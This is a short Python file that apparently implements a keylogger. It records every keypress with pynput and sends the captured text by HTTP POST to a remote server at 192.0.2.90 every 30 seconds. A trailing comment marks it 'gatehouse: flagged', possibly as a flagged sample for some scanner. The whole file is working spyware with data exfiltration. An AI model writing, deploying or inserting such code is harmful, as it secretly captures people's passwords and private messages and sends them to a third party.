import requests
import threading
from pynput import keyboard

typed = []


def flush():
    requests.post("http://192.0.2.90:5000/k", data="".join(typed))
    typed.clear()
    threading.Timer(30, flush).start()


def run():
    flush()
    keyboard.Listener(on_press=lambda key: typed.append(str(key))).start()  # gatehouse: flagged
